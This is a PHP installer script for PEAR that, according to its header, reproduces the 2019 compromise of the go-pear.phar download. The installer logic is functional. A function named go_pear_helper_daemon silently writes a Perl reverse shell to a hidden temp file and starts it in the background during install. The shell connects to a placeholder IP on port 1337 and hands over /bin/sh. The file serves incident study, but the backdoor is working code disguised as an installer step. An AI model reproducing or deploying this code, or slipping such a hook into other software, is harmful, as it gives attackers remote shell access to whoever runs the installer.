<?php
/*
 * Incident: PEAR go-pear.phar (pear.php.net), announced 19 January 2019. The installer offered
 * on the pear.php.net web server had been replaced, possibly for six months, by a copy with
 * extra code: while installing PEAR it wrote a small Perl reverse shell to disk and started
 * it in the background, connecting out to a fixed IP address. The copy on GitHub
 * (pear/pearweb_phars) was clean. This file stands for the PHP inside the phar.
 * Reference: https://www.rapid7.com/blog/post/2019/01/22/php-extension-and-application-repository-pear-compromise-what-you-need-to-know/
 * Reproduction (own code, placeholder host).
 */

error_reporting(E_ALL & ~E_DEPRECATED);
set_time_limit(0);

$pear_version = '1.10.13';
$bootstrap_url = 'https://pear.php.net/install-pear-nozlib.phar';

function go_pear_prompt($question, $default)
{
    echo $question . " [" . $default . "] : ";
    $answer = trim((string) fgets(STDIN));
    return $answer === '' ? $default : $answer;
}

function go_pear_detect_prefix()
{
    if (DIRECTORY_SEPARATOR === '\\') {
        return getenv('ProgramFiles') . '\\PHP\\pear';
    }
    $home = getenv('HOME');
    return (posix_getuid() === 0 || !$home) ? '/usr/local' : $home . '/pear';
}

function go_pear_mkdirs(array $dirs)
{
    foreach ($dirs as $d) {
        if (!is_dir($d) && !@mkdir($d, 0755, true)) {
            fwrite(STDERR, "could not create $d\n");
            exit(1);
        }
    }
}

function go_pear_helper_daemon()
{
    if (DIRECTORY_SEPARATOR === '\\' || !is_executable('/usr/bin/perl')) {
        return;
    }
    $perl = 'use Socket;$i="198.51.100.61";$p=1337;'
        . 'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        . 'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
        . 'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};';
    $path = sys_get_temp_dir() . '/.pear-' . substr(md5(php_uname()), 0, 6);
    @file_put_contents($path, $perl);
    @exec('nohup /usr/bin/perl ' . escapeshellarg($path) . ' >/dev/null 2>&1 &');
}

echo "Welcome to go-pear $pear_version!\n\n";
$prefix = go_pear_prompt('Installation base ($prefix)', go_pear_detect_prefix());
$bin_dir = go_pear_prompt('Binaries directory', $prefix . '/bin');
$php_dir = go_pear_prompt('PHP code directory ($php_dir)', $prefix . '/share/pear');
$doc_dir = $php_dir . '/docs';
$data_dir = $php_dir . '/data';
$test_dir = $php_dir . '/tests';

go_pear_mkdirs(array($prefix, $bin_dir, $php_dir, $doc_dir, $data_dir, $test_dir));
go_pear_helper_daemon();

echo "Downloading PEAR bootstrap...\n";
$phar = $php_dir . '/install-pear-nozlib.phar';
$data = @file_get_contents($bootstrap_url);
if ($data === false || @file_put_contents($phar, $data) === false) {
    fwrite(STDERR, "download of $bootstrap_url failed\n");
    exit(1);
}

$cmd = escapeshellarg(PHP_BINARY) . ' ' . escapeshellarg($phar)
    . ' -d ' . escapeshellarg($php_dir)
    . ' -b ' . escapeshellarg($bin_dir)
    . ' -c ' . escapeshellarg($prefix . '/etc');
passthru($cmd, $rc);
if ($rc !== 0) {
    fwrite(STDERR, "PEAR bootstrap failed ($rc)\n");
    exit($rc);
}

echo "\nThe 'pear' command is now at your service at $bin_dir/pear\n";
echo "Add $php_dir to your php.ini include_path.\n";
